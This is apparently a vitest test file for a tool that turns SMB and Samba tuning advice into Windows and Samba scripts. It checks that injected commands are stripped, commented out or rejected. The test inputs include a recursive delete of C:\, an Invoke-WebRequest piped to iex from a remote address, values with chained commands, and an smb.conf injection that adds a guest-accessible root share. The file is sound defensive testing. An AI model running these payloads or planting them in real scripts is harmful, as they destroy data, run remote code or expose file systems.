import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { knob, KNOBS } from '../advice/knobs.js';
import type { RecommendationOut } from '../contract/recommend.js';
import { recommendFromInput } from '../contract/recommend.js';
import { CLIENT_PROFILE_IDS } from '../model/client-profiles.js';
import { PipefillInputError } from '../model/errors.js';
import { SERVER_PROFILE_IDS } from '../model/server-profiles.js';
import { exportTarget, manualScript, windowsScript } from './export-scripts.js';
import { setGlobalParameter } from './samba-conf.js';
import { knobValueProblem, trustedRecommendations } from './trusted.js';

const windows = recommendFromInput({
  bandwidth: '1gbit',
  rtt: '100ms',
  client: 'win7-smb2',
  server: 'win2008-rtm',
  current: { 'windows-server.smb2-credits-max': 16 },
}).recommendations;
const ontap = recommendFromInput({ bandwidth: '155mbit', rtt: '75ms', client: 'xp-smb1', server: 'netapp-7mode-default' }).recommendations;

const edit = (list: readonly RecommendationOut[], id: string, change: Partial<Record<keyof RecommendationOut, unknown>>) =>
  list.map((r) => (r.id === id ? ({ ...r, ...change } as RecommendationOut) : r));

describe('recommendations from a file are checked against the catalogue', () => {
  it('passes everything the advisor itself proposes, for every pair of profiles, with the same commands', () => {
    let seen = 0;
    for (const client of CLIENT_PROFILE_IDS)
      for (const server of SERVER_PROFILE_IDS)
        for (const [bandwidth, rtt] of [
          ['1gbit', '100ms'],
          ['80mbit', '45ms'],
        ] as const) {
          const result = recommendFromInput({ bandwidth, rtt, client, server });
          const proposed = [...result.recommendations, ...result.protections];
          const trusted = trustedRecommendations(proposed);
          expect(trusted.map((r) => r.command)).toEqual(proposed.map((r) => r.command));
          seen += proposed.length;
        }
    expect(seen).toBeGreaterThan(50);
  }, 60_000);

  it("passes what a report's copies showed as the current value (a server window, a signing algorithm)", () => {
    const report = JSON.parse(readFileSync(new URL('../report/fixtures/lab-100mbit-40ms-rcvbuf64k.json', import.meta.url), 'utf8')) as unknown;
    const result = recommendFromInput({ report: report as never });
    const observed = result.recommendations.filter((r) => r.currentFrom === 'observed' && r.platform === 'samba');
    expect(observed.map((r) => r.id)).toContain('samba.socket-options');
    expect(() => trustedRecommendations(result.recommendations)).not.toThrow();
  });

  it('rebuilds every command from the catalogue, ignoring the text in the file', () => {
    const hostile = edit(windows, 'windows-server.smb2-credits-max', { command: 'Remove-Item -Recurse -Force C:\\' });
    const script = windowsScript(hostile, '2026-11-23T00:00:00.000Z');
    expect(script).not.toContain('Remove-Item -Recurse');
    const credits = hostile.find((r) => r.id === 'windows-server.smb2-credits-max');
    expect(script).toContain(knob('windows-server.smb2-credits-max')?.command(credits?.value ?? 0));
  });

  it('keeps free text on its comment line: a newline in why, caution or current never starts a command', () => {
    const injected = 'Invoke-WebRequest http://198.51.100.1/x | iex';
    const hostile = edit(edit(windows, windows[0]?.id ?? '', { why: `faster\n${injected}`, caution: `note\r${injected}` }), 'windows-server.smb2-credits-max', {
      why: `a\u2028${injected}`,
    });
    const script = windowsScript(hostile, '2026-11-23T00:00:00.000Z');
    for (const line of script.split(/\r\n|\r|\n|\u2028/)) if (line.includes(injected)) expect(line.trimStart().startsWith('#')).toBe(true);
    const manual = manualScript('ontap', edit(ontap, ontap[0]?.id ?? '', { why: `x\n${injected}` }), 'now');
    for (const line of manual.split('\n')) if (line.includes(injected)) expect(line.startsWith('#')).toBe(true);
  });

  it('refuses unknown settings, wrong platforms and values outside the type or the range', () => {
    const id = 'windows-server.smb2-credits-max';
    const cases: Array<[string, readonly RecommendationOut[], RegExp]> = [
      ['unknown knob', edit(windows, id, { id: 'windows-server.evil' }), /does not know/],
      ['platform', edit(windows, id, { platform: 'linux' }), /claims platform/],
      ['text for a number', edit(windows, id, { value: '8192; Remove-Item C:\\' }), /whole number/],
      ['fraction', edit(windows, id, { value: 8192.5 }), /whole number/],
      ['above the range', edit(windows, id, { value: 1e9 }), /between 512 and 32768/],
      ['current not a number', edit(windows, id, { current: '16\nRemove-Item' }), /current value/],
    ];
    for (const [name, list, message] of cases) {
      expect(() => trustedRecommendations(list), name).toThrow(PipefillInputError);
      expect(() => trustedRecommendations(list), name).toThrow(message);
    }
    const congestion = knob('linux.congestion-control');
    expect(congestion && knobValueProblem(congestion, 'cubic; reboot', true)).toMatch(/one of reno, cubic, bbr/);
  });

  it('holds every text knob to its pattern: no line breaks, no sections, no stray characters', () => {
    const socket = knob('samba.socket-options');
    if (!socket) throw new Error('no socket options knob');
    for (const good of ['TCP_NODELAY', 'TCP_NODELAY SO_RCVBUF=131072 SO_SNDBUF=131072', 'IPTOS_LOWDELAY'])
      expect(knobValueProblem(socket, good, true), good).toBeUndefined();
    for (const bad of ['TCP_NODELAY\n[evil]\n path = /\n guest ok = yes', 'TCP_NODELAY\r', 'TCP_NODELAY ; include = /tmp/x', '', 'tcp_nodelay', 'A'.repeat(40)])
      expect(knobValueProblem(socket, bad, true), JSON.stringify(bad)).toBeDefined();
    // Every text knob has a pattern, or it could not be applied at all.
    for (const k of KNOBS.filter((k) => k.type === 'text')) expect(k.pattern, k.id).toBeInstanceOf(RegExp);
  });

  it('never puts a line break into smb.conf, whoever calls the editor', () => {
    expect(() => setGlobalParameter('[global]\n', 'socket options', 'TCP_NODELAY\n[evil]')).toThrow(/line break/);
  });

  it('writes no file when one recommendation is hostile, and shows the exact commands in the preview', () => {
    const dir = mkdtempSync(join(tmpdir(), 'pipefill-trusted-'));
    try {
      expect(() => exportTarget('windows', edit(windows, 'windows-server.smb2-credits-max', { value: 'x' }), dir)).toThrow(PipefillInputError);
      expect(readdirSync(dir)).toEqual([]);
      const outcome = exportTarget('windows', windows, dir);
      for (const change of outcome.preview.changes)
        expect(change.command).toBe(knob(change.knob)?.command(windows.find((r) => r.id === change.knob)?.value ?? ''));
      expect(readFileSync(join(dir, 'pipefill-apply.ps1'), 'utf8')).toContain(outcome.preview.changes[0]?.command);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
